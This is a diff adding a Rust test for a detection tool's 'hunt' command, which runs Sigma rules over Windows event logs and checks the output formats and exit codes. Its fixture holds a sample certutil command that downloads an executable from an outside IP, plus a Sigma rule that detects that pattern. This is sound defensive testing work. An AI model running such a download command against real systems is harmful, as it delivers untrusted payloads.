@@ -532,3 +532,90 @@ fn baseline_create_and_diff_exit_codes() {
         Some(2)
     );
 }
+
+/// A Sysmon process-creation event and a Security 1102, as JSON lines.
+const HUNT_EVENTS: &str = concat!(
+    r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T03:10:00.5Z"}},"EventRecordID":7,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WEB01"},"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.7/a.exe a.exe, \"x\""}}}"##,
+    "\n",
+    r##"{"Event":{"System":{"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T03:30:00Z"}},"EventRecordID":8,"Channel":"Security","Computer":"WEB01"},"UserData":{"LogFileCleared":{"SubjectUserName":"admin"}}}}"##,
+    "\n"
+);
+
+const HUNT_RULE: &str = r#"title: Certutil Download
+id: 11111111-2222-3333-4444-555555555555
+level: high
+tags: [attack.command-and-control, attack.t1105]
+logsource: {product: windows, category: process_creation}
+detection:
+  selection:
+    Image|endswith: '\certutil.exe'
+    CommandLine|contains|windash: '-urlcache'
+  condition: selection
+"#;
+
+#[test]
+fn hunt_formats_exit_codes_and_rules() {
+    let dir = root_with(&[
+        ("logs/a.jsonl", HUNT_EVENTS),
+        ("logs/clean.jsonl", ""),
+        ("rules/certutil.yml", HUNT_RULE),
+        (
+            "rules/linux.yml",
+            "title: L\nlogsource: {product: linux}\ndetection:\n  s: {a: 1}\n  condition: s\n",
+        ),
+    ]);
+    let logs = dir.path().join("logs");
+    let rules = dir.path().join("rules");
+    let (logs, rules) = (logs.to_str().unwrap(), rules.to_str().unwrap());
+
+    let table = fw(&["hunt", logs, "--sigma", rules]);
+    assert_eq!(table.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&table.stdout);
+    assert!(text.contains("FIREWARDEN HUNT"), "{text}");
+    assert!(text.contains("Certutil Download"), "{text}");
+    assert!(text.contains("Event log cleared"), "{text}");
+    assert!(text.contains("1 of 2 rules not loaded"), "{text}");
+
+    let csv = fw(&["hunt", logs, "--sigma", rules, "--format", "csv"]);
+    let csv = String::from_utf8_lossy(&csv.stdout);
+    let mut lines = csv.lines();
+    assert!(
+        lines
+            .next()
+            .unwrap()
+            .starts_with("datetime,timestamp_desc,message,level")
+    );
+    let first = lines.next().unwrap();
+    assert!(
+        first.starts_with("2026-11-20T03:10:00.500000Z,Event Recorded,\"Certutil Download"),
+        "{first}"
+    );
+
+    let jsonl = fw(&["hunt", logs, "--sigma", rules, "--format", "jsonl"]);
+    let rows: Vec<serde_json::Value> = String::from_utf8_lossy(&jsonl.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(rows.len(), 2);
+    for r in &rows {
+        for key in ["datetime", "timestamp_desc", "message"] {
+            assert!(r[key].is_string(), "{r}");
+        }
+    }
+    assert_eq!(rows[0]["attack"][0], "T1105");
+    assert_eq!(rows[0]["record_id"], 7);
+
+    // Only critical: nothing here is, so the run is clean.
+    let crit = fw(&["hunt", logs, "--sigma", rules, "--min-level", "critical"]);
+    assert_eq!(crit.status.code(), Some(0));
+    let none = fw(&[
+        "hunt",
+        dir.path().join("logs/clean.jsonl").to_str().unwrap(),
+    ]);
+    assert_eq!(none.status.code(), Some(0));
+
+    let unsupported = fw(&["hunt", "--sigma", rules, "--unsupported"]);
+    let text = String::from_utf8_lossy(&unsupported.stdout);
+    assert!(text.contains("product: linux"), "{text}");
+    assert_eq!(fw(&["hunt"]).status.code(), Some(2));
+}
